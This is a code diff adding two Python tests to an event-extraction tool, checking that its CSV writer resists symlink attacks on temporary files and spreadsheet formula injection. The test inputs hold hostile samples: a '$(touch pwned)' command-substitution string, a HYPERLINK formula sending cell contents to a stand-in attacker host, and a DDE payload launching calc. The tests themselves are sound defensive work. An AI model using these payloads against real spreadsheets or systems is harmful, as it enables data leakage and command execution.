@@ -66,3 +66,31 @@ def test_aggregate_counts_dates_and_keeps_evidence() -> None:
 def test_aggregate_is_deterministic() -> None:
     rels = [rel("country/BLR", "consult", "org/NATO", doc=d) for d in "cab"]
     assert aggregate(rels) == aggregate(list(reversed(rels)))
+
+
+def test_events_csv_does_not_follow_a_planted_temporary_symlink(tmp_path) -> None:
+    victim = tmp_path / "notes.txt"
+    victim.write_text("my notes\n", encoding="utf-8")
+    out = tmp_path / "out"
+    out.mkdir()
+    for name in ("events.csv.tmp", ".events.csv.tmp"):  # the old fixed temporary name, and a guess
+        (out / name).symlink_to(victim)
+    rels = [Relation("d", "country/BLR", "consult", "org/NATO", "$(touch pwned) Belarus met NATO.", 0, 30,
+                     date="2020-01-01", method="test", trigger="met")]
+    assert write_events_csv(rels, ENTITIES, out / "events.csv", igo_table={}) == 2
+    assert victim.read_text(encoding="utf-8") == "my notes\n"
+    assert not (out / "events.csv").is_symlink()
+    assert "$(touch pwned)" in (out / "events.csv").read_text(encoding="utf-8")
+    assert sorted(p.name for p in out.iterdir()) == [".events.csv.tmp", "events.csv", "events.csv.tmp"]
+
+
+def test_events_csv_cells_are_formula_safe(tmp_path) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rels = [Relation(hostile, "country/BLR", "consult", "org/NATO", "@SUM(1+1) said Belarus.", 0, 30,
+                     speaker="-2+3 cmd|' /C calc'!A0", date="2020-01-01", method="+method", trigger="met")]
+    write_events_csv(rels, ENTITIES, tmp_path / "events.csv", igo_table={})
+    rows = list(csv.reader((tmp_path / "events.csv").open(encoding="utf-8")))
+    assert len(rows) == 3
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'" + hostile in cells and "'@SUM(1+1) said Belarus." in cells and "'+method" in cells
